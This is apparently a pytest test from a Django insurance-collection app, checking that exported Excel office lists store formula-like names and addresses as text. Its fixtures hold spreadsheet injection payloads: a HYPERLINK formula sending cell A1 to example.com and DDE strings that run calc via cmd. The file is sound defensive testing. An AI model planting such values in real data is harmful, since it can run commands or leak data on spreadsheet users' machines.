"""Names and addresses that a spreadsheet would run (issue #15, hole 5): the
office lists write them as text, as the registry's and the dashboards' exports do."""

import io

import pytest
from openpyxl import load_workbook

from collectors.handovers import record_handover
from collectors.office_lists import produce_lists
from collectors.payments import quote_for_collector, record_payment
from collectors.tests.factories import UserFactory
from collectors.tests.fieldkit import collector_with_area, head_of, household, today
from outreach.roles import AGENT_MANAGER, ensure_roles

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://example.com/x?"&A1,"Bấm vào đây")'
ADDRESS = "+cmd|' /C calc'!A0"


def pay(collector, home, receipt, scheme="bhyt_hgd", months=12, income=None):
    members = [head_of(home)]
    quote = quote_for_collector(collector=collector, household=home, members=members, scheme=scheme, months=months,
                                paid_on=today(), income=income)
    return record_payment(collector=collector, household=home, members=members, scheme=scheme, months=months,
                          paid_on=today(), receipt_number=receipt, amount=quote.total, income=income,
                          recorded_by=collector.user)


def test_a_name_or_address_that_is_a_formula_is_written_as_text_in_every_list():
    collector = collector_with_area()
    manager = UserFactory(is_staff=True)
    manager.groups.add(ensure_roles()[AGENT_MANAGER])
    collector.agent.managers.add(manager)
    home = household(collector, head=NAME, address=ADDRESS)
    bhxh = household(collector, head="@SUM(1+1)*cmd|' /C calc'!A0", address="-2+3")
    payments = [pay(collector, home, "BL-1"), pay(collector, bhxh, "BL-2", scheme="bhxh_tn", months=1,
                                                  income=2_000_000)]
    record_handover(collector=collector, numbers=["BL-1", "BL-2"], total=sum(p.amount for p in payments),
                    handed_on=today(), received_by="Phạm Thị Lan", recorded_by=manager)
    produced = {item.office_list.form: item.content
                for item in produce_lists(agent=collector.agent, period=today().replace(day=1), user=manager)}
    assert set(produced) == {"D03-TS", "D05-TS", "TK1-TS"}
    for form, content in produced.items():
        book = load_workbook(io.BytesIO(content))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == [], form
        values = {cell.value for cell in cells}
        names = {"'" + NAME, "'@SUM(1+1)*cmd|' /C calc'!A0"} & values
        assert names, form
        assert not any(isinstance(value, str) and value[:1] in "=+-@" for value in values), form
    # The address, as D03-TS lists it, starts with the household's: kept whole, as text.
    d03 = {cell.value for row in load_workbook(io.BytesIO(produced["D03-TS"])).active.iter_rows() for cell in row}
    assert any(isinstance(value, str) and value.startswith("'" + ADDRESS) for value in d03)
